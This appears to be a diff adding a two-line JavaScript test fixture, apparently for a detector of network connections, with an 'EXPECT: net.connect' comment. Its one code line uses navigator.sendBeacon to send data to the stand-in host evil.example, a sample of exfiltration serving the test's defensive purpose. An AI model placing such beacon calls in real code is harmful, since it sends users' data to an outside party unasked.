@@ -1,0 +1,2 @@
+// EXPECT: net.connect
+navigator.sendBeacon("https://evil.example/", "x");
